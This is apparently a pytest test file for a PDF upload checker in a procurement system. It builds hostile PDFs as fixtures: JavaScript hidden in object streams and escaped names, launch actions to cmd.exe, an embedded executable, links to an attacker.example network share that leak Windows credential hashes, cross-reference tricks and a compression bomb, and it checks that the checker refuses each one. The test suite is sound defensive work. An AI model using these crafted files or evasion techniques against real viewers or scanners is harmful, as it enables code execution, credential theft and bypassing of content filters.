"""The content check of PDF uploads (procurement/filetypes.py): a PDF parser reads every object, wherever it hides, and
refuses what can run code or carry a file, and what it cannot read whole, within limits of time and memory."""

import io
import struct
import time
import zlib

import pytest
from pypdf import PdfWriter

from procurement import filetypes
from procurement.filetypes import FileRefused, detect

MAX_FILE = 2 * 1024 * 1024
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s>>"
CONTENT = b"BT /F1 12 Tf 72 720 Td (Tarjous) Tj ET"


# --- PDF files written byte by byte -------------------------------------------------------------------------------


def pdf_file(
    plain: dict[int, bytes],
    packed: dict[int, bytes] | None = None,
    *,
    packed_dictionary: bytes = b"",
    packed_filter: bytes = b"/FlateDecode",
    packed_encoding=zlib.compress,
    packed_type: bytes = b"/ObjStm",
    trailer: bytes = b"",
) -> bytes:
    """A PDF 1.7 file: the `plain` objects as they are, the `packed` ones in one object stream (encoded with
    `packed_encoding` for its filter; its dictionary gets `packed_dictionary` too), and a cross-reference stream that
    lists them all, as a producer that compresses its objects writes it. Object 1 is the catalog."""
    packed = packed or {}
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    entries: dict[int, tuple[int, int, int]] = {}
    for number, body in sorted(plain.items()):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    last = max([*plain, *packed])
    if packed:
        stream_number = last = last + 1
        header, objects = b"", b""
        for index, (number, body) in enumerate(sorted(packed.items())):
            entries[number] = (2, stream_number, index)
            header += b"%d %d " % (number, len(objects))
            objects += body + b"\n"
        data = packed_encoding(header + objects)
        entries[stream_number] = (1, len(out), 0)
        out += (
            b"%d 0 obj\n<< /Type %s /N %d /First %d /Filter %s /Length %d %s>>\nstream\n"
            % (stream_number, packed_type, len(packed), len(header), packed_filter, len(data), packed_dictionary)
            + data
            + b"\nendstream\nendobj\n"
        )
    xref_number = last + 1
    entries[xref_number] = (1, len(out), 0)
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(
        struct.pack(">BIH", *entries[number]) if number in entries else struct.pack(">BIH", 0, 0, 0)
        for number in range(1, xref_number + 1)
    )
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d %s>>\nstream\n"
        % (xref_number, xref_number + 1, len(rows), trailer)
        + rows
        + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % entries[xref_number][1]


def one_page(*, catalog: bytes = b"", page: bytes = b"", more: dict[int, bytes] | None = None, **packing) -> dict:
    """The objects of a one-page PDF (catalog, pages, page, content), with more from 5 on, for `pdf_file`."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % page,
        4: b"<< /Length %d >>\nstream\n" % len(CONTENT) + CONTENT + b"\nendstream",
        **(more or {}),
    }


def packed_pdf(objects: dict[int, bytes], *, packed_dictionary: bytes = b"(obj)") -> bytes:
    """These objects packed in an object stream whose dictionary holds the string (obj); the content stream (4),
    which may not be packed, stays plain."""
    plain = {number: body for number, body in objects.items() if b"stream" in body}
    packed = {number: body for number, body in objects.items() if number not in plain}
    return pdf_file(plain, packed, packed_dictionary=b"/Comment " + packed_dictionary + b" ")


def pdf_open_action_in_object_stream() -> bytes:
    """The pen-tester's file: the catalog, with document-level JavaScript run on opening, inside a compressed object
    stream whose dictionary holds a string with "obj)", which led the old scan to the wrong dictionary."""
    return packed_pdf(one_page(catalog=b"/OpenAction " + JS_ACTION + b" "))


def pdf_javascript_name_tree_in_object_stream() -> bytes:
    """JavaScript only in the document's name tree (run on opening), the tree and the action in an object stream."""
    return packed_pdf(
        one_page(
            catalog=b"/Names 5 0 R ",
            more={5: b"<< /JavaScript 6 0 R >>", 6: b"<< /Names [(init) 7 0 R] >>", 7: JS_ACTION},
        )
    )


def pdf_page_additional_action() -> bytes:
    """JavaScript run when the page is opened (/AA /O on the page), its name written with #xx escapes."""
    return pdf_file(one_page(page=b"/AA << /O << /S /Java#53cript /J#53 (app.alert(1)) >> >> "))


def pdf_xfa_form() -> bytes:
    xml = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'
    return pdf_file(
        one_page(
            catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >> ",
            more={5: b"<< /Length %d >>\nstream\n" % len(xml) + xml + b"\nendstream"},
        )
    )


def pdf_file_attachment_annotation() -> bytes:
    """A program attached to an annotation of the page: its file specification's /EF stream has no /Type."""
    exe = b"MZ\x90\x00" + bytes(60)
    return pdf_file(
        one_page(
            page=b"/Annots [5 0 R] ",
            more={
                5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 90 90] /FS 6 0 R >>",
                6: b"<< /Type /Filespec /F (liite.exe) /EF << /F 7 0 R >> >>",
                7: b"<< /Length %d >>\nstream\n" % len(exe) + exe + b"\nendstream",
            },
        )
    )


def pdf_launch_in_link() -> bytes:
    """A link on the page that starts a program, in an object stream."""
    return packed_pdf(
        one_page(
            page=b"/Annots [5 0 R] ",
            more={5: b"<< /Type /Annot /Subtype /Link /Rect [72 72 90 90] /A << /S /Launch /F (cmd.exe) >> >>"},
        )
    )


def pdf_truncated() -> bytes:
    whole = pdf_file(one_page())
    return whole[: len(whole) * 2 // 3]


def pdf_unlisted_action() -> bytes:
    """The opening action is object 9, in the file but left out of the cross-reference: a reader that looks for it
    finds it, the cross-reference says it is not there."""
    body = pdf_file(one_page(catalog=b"/OpenAction 9 0 R "))
    start = body.index(b"startxref")
    return body[:start] + b"9 0 obj\n" + JS_ACTION + b"\nendobj\n" + body[start:]


def pdf_3d_annotation_running_javascript() -> bytes:
    """A 3D annotation whose artwork stream (/3DD) runs a JavaScript stream when it is instantiated."""
    u3d, js = b"U3D\x00" + bytes(32), b"app.alert('3d');"
    return pdf_file(
        one_page(
            page=b"/Annots [5 0 R] ",
            more={
                5: b"<< /Type /Annot /Subtype /3D /Rect [72 72 300 300] /3DD 6 0 R /3DA << /A /PO >> >>",
                6: b"<< /Type /3D /Subtype /U3D /OnInstantiate 7 0 R /Length %d >>\nstream\n" % len(u3d)
                + u3d
                + b"\nendstream",
                7: b"<< /Length %d >>\nstream\n" % len(js) + js + b"\nendstream",
            },
        )
    )


def _unlisted_action_after(separator: bytes) -> bytes:
    """As `pdf_unlisted_action`, the object's header after `separator` (which a reader skips as it looks)."""
    body = pdf_file(one_page(catalog=b"/OpenAction 9 0 R "))
    start = body.index(b"startxref")
    return body[:start] + separator + b"9 0 obj\n" + JS_ACTION + b"\nendobj\n" + body[start:]


def pdf_unlisted_action_after_nul() -> bytes:
    return _unlisted_action_after(b"\x00")


def pdf_unlisted_action_after_a_delimiter() -> bytes:
    return _unlisted_action_after(b"%c>>")


def pdf_unlisted_action_packed() -> bytes:
    """The opening action is packed in the object stream, but the cross-reference does not list it: no header of it
    is anywhere in the bytes."""
    data = pdf_file(
        {4: one_page()[4]},
        {**{n: b for n, b in one_page(catalog=b"/OpenAction 9 0 R ").items() if n != 4}, 9: JS_ACTION},
    )
    # the cross-reference stream's row of object 9 (type 2, in object stream 10) becomes a free one
    return data.replace(struct.pack(">BIH", 2, 10, 3), struct.pack(">BIH", 0, 0, 0))


def pdf_link(action: bytes) -> bytes:
    """A link on the page with this action."""
    return pdf_file(
        one_page(
            page=b"/Annots [5 0 R] ",
            more={5: b"<< /Type /Annot /Subtype /Link /Rect [72 72 90 90] /A " + action + b" >>"},
        )
    )


# Links that run a script, open a local file or make the viewer connect to a network share (which hands it the
# user's Windows credentials' hash); refused as unsafe_link.
UNSAFE_LINKS = [
    ("a javascript: link", lambda: pdf_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")),
    ("a javascript: link with a tab in its scheme", lambda: pdf_link(b"<< /S /URI /URI (java\tscript:alert(1)) >>")),
    ("a vbscript: link", lambda: pdf_link(b"<< /S /URI /URI (VBScript:msgbox) >>")),
    ("a data: link", lambda: pdf_link(b"<< /S /URI /URI (data:text/html,<script>alert(1)</script>) >>")),
    ("a file: link", lambda: pdf_link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")),
    (
        "an opening action to a javascript: address",
        lambda: pdf_file(one_page(catalog=b"/OpenAction << /S /URI /URI (javascript:app.alert(1)) >> ")),
    ),
    (
        "a jump to a file on a network share",
        lambda: pdf_link(b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>"),
    ),
    (
        "a jump to a network share, in a file specification",
        lambda: pdf_link(b"<< /S /GoToR /F << /Type /Filespec /UF (//attacker.example/share/a.pdf) >> /D [0 /Fit] >>"),
    ),
    (
        "form data imported from a network share",
        lambda: pdf_file(
            one_page(catalog=b"/OpenAction << /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >> ")
        ),
    ),
    ("an embedded jump to a network share", lambda: pdf_link(b"<< /S /GoToE /F (file://attacker/share/a.pdf) >>")),
]


def pdf_deeply_nested() -> bytes:
    return pdf_file(one_page(catalog=b"/Nest " + b"[" * 150 + b"]" * 150 + b" "))


def pdf_object_stream_bomb() -> bytes:
    """An object stream that unpacks to 30 MB (one string of spaces) from some 30 kB in the file."""
    objects = one_page(catalog=b"/Extra 5 0 R ")
    plain = {number: body for number, body in objects.items() if number == 4}
    packed = {**{n: b for n, b in objects.items() if n != 4}, 5: b"(" + b" " * 30_000_000 + b")"}
    return pdf_file(plain, packed)


def encrypted_pdf(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password=user_password, owner_password="omistaja")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def many_pages_pdf(pages: int) -> bytes:
    """A benign report of `pages` pages, each with its own compressed text and a link, and a shared font."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R >>",
        3: b"<< /Type /Outlines /Count 0 >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    kids = []
    for page in range(pages):
        page_number, content_number = 10 + 2 * page, 11 + 2 * page
        kids.append(b"%d 0 R" % page_number)
        text = b"".join(
            b"BT /F1 9 Tf 40 %d Td (Rivi %d sivulla %d: hinta 9 137,11 euroa) Tj ET\n" % (800 - 12 * line, line, page)
            for line in range(60)
        )
        stream = zlib.compress(text)
        objects[page_number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
            b"/Contents %d 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [40 40 200 52] "
            b"/A << /S /URI /URI (https://www.hankinnat.fi/) >> >>] >>" % content_number
        )
        objects[content_number] = (
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"
        )
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % pages
    plain = {n: body for n, body in objects.items() if b"stream" in body}
    return pdf_file(plain, {n: body for n, body in objects.items() if n not in plain})


# --- what is refused, and why ---------------------------------------------------------------------------------------

HOSTILE_PDFS = [
    ("JavaScript on opening, in an object stream whose dictionary holds (obj)", pdf_open_action_in_object_stream),
    ("JavaScript only in the name tree, in an object stream", pdf_javascript_name_tree_in_object_stream),
    ("JavaScript when the page opens, names #xx-escaped", pdf_page_additional_action),
    ("an XFA form", pdf_xfa_form),
    ("a program attached to an annotation", pdf_file_attachment_annotation),
    ("a link that starts a program, in an object stream", pdf_launch_in_link),
    ("a 3D annotation that runs JavaScript when instantiated", pdf_3d_annotation_running_javascript),
]


@pytest.mark.parametrize("make", [make for _name, make in HOSTILE_PDFS], ids=[name for name, _make in HOSTILE_PDFS])
def test_active_content_is_found_in_every_object(make):
    data = make()

    with pytest.raises(FileRefused) as refused:
        detect(data, filename="liite.pdf", max_file_bytes=MAX_FILE)

    assert refused.value.code == "active_content"


@pytest.mark.parametrize("make", [make for _name, make in UNSAFE_LINKS], ids=[name for name, _make in UNSAFE_LINKS])
def test_links_to_scripts_files_and_network_shares_are_refused(make):
    with pytest.raises(FileRefused) as refused:
        detect(make(), filename="liite.pdf", max_file_bytes=MAX_FILE)

    assert refused.value.code == "unsafe_link"


def test_web_and_mail_links_and_jumps_to_nearby_files_pass():
    for action in (
        b"<< /S /URI /URI (https://www.hankinnat.fi/tarjous?id=1#osa) >>",
        b"<< /S /URI /URI (http://example.fi/) >>",
        b"<< /S /URI /URI (mailto:hankinnat@kunta.fi) >>",
        b"<< /S /URI /URI (liitteet/hinnasto.html) >>",
        b"<< /S /GoToR /F (liite2.pdf) /D [0 /Fit] >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (https://www.hankinnat.fi/lomake) >> >>",
    ):
        assert detect(pdf_link(action), filename="liite.pdf", max_file_bytes=MAX_FILE).name == "pdf", action


def test_the_same_files_without_their_actions_pass():
    # the files above are well-formed: what refuses them is what they do, not how they are written
    for data in (
        packed_pdf(one_page()),
        pdf_file(one_page(page=b"/AA << /O << /S /URI /URI (https://www.hankinnat.fi/) >> >> ")),
        pdf_file(one_page(catalog=b"/AcroForm << /Fields [] >> /Names << /Dests 5 0 R >> ", more={5: b"<< >>"})),
        many_pages_pdf(3),
    ):
        assert detect(data, filename="liite.pdf", max_file_bytes=MAX_FILE).name == "pdf"


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (pdf_truncated, "corrupt_file"),
        (lambda: b"%PDF-1.7\n" + bytes(2000), "corrupt_file"),
        (lambda: pdf_file(one_page()).replace(b"startxref\n", b"startxref\n9"), "corrupt_file"),
        (pdf_unlisted_action, "uninspectable_file"),
        (pdf_unlisted_action_after_nul, "uninspectable_file"),
        (pdf_unlisted_action_after_a_delimiter, "uninspectable_file"),
        (pdf_unlisted_action_packed, "uninspectable_file"),
        (pdf_deeply_nested, "uninspectable_file"),
        (pdf_object_stream_bomb, "compression_bomb"),
        (lambda: encrypted_pdf(""), "encrypted_file"),  # opens without a password, still encrypted
        (lambda: encrypted_pdf("salasana"), "encrypted_file"),
    ],
    ids=[
        "cut",
        "no structure",
        "cross-reference not where it says",
        "object left out",
        "object left out, after NUL",
        "object left out, after >>",
        "object left out, packed",
        "nested",
        "bomb",
        "no pw",
        "pw",
    ],
)
def test_a_pdf_that_cannot_be_read_whole_is_refused(make, code):
    with pytest.raises(FileRefused) as refused:
        detect(make(), filename="liite.pdf", max_file_bytes=MAX_FILE)

    assert refused.value.code == code


def test_the_walk_stops_at_its_limits(monkeypatch):
    data = many_pages_pdf(20)  # some 45 objects and 1 000 values
    assert detect(data, filename="liite.pdf", max_file_bytes=MAX_FILE).name == "pdf"

    for limit, value in (("MAX_PDF_OBJECTS", 30), ("MAX_PDF_VALUES", 500), ("MAX_PDF_STREAM_UNPACKED", 100)):
        with monkeypatch.context() as patch:
            patch.setattr(filetypes, limit, value)
            with pytest.raises(FileRefused) as refused:
                detect(data, filename="liite.pdf", max_file_bytes=MAX_FILE)
        assert refused.value.code == (
            "compression_bomb" if limit == "MAX_PDF_STREAM_UNPACKED" else "uninspectable_file"
        )


def test_a_long_report_is_checked_quickly():
    data = many_pages_pdf(200)
    assert len(data) > 90_000

    started = time.perf_counter()
    kind = detect(data, filename="raportti.pdf", max_file_bytes=MAX_FILE)
    elapsed = time.perf_counter() - started

    assert kind.name == "pdf"
    # some 0.1 s on the development machine; the bound leaves room for a busy CI machine
    assert elapsed < 5, elapsed
